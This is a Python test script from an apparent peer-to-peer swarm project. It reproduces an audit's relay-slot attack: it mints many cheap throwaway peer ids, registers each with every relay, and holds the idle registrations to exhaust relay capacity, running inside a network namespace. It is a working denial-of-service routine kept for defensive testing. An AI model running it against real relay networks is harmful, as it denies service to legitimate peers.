"""The second audit's relay-slot attack, run by the tests inside a network namespace
(`ip netns exec NS python -m tests.relay_flood COUNT MADDR...`): COUNT throwaway peer ids each ask every relay
of the swarm for a check, then for a registration, and hold what they got without a word more. Prints
"registered N of COUNT" and stays until killed."""
import asyncio
import sys

from cryptography.hazmat.primitives.asymmetric import rsa

from swarm.client import loop
from swarm.dht.records import fetch_relays, make_dht
from swarm.net.direct import HandshakeError
from swarm.net.relay import RelayRegistration


async def flood(relays: dict, count: int) -> list[RelayRegistration]:
    held = []
    for _ in range(count):
        key = rsa.generate_private_key(public_exponent=65537, key_size=1024)  # cheap keys: peer ids are free
        for relay_peer, (control, splice) in relays.items():
            registration = RelayRegistration(relay_peer, control[0], splice, key)
            try:
                await registration.open()
                await registration.check([])
                await registration.register(None)
                registration.task.cancel()  # idle: it never serves anyone
                registration.keepalive.cancel()
                held.append(registration)
            except (OSError, TimeoutError, HandshakeError, ValueError):
                registration.close()
    return held


def main(count: str, *initial_peers: str) -> None:
    dht = make_dht(list(initial_peers), client_mode=True)
    relays = fetch_relays(dht)
    held = loop.run(flood(relays, int(count)))
    print(f"registered {len(held)} of {int(count) * len(relays)}", flush=True)
    loop.run(asyncio.sleep(3600))


if __name__ == "__main__":
    main(*sys.argv[1:])
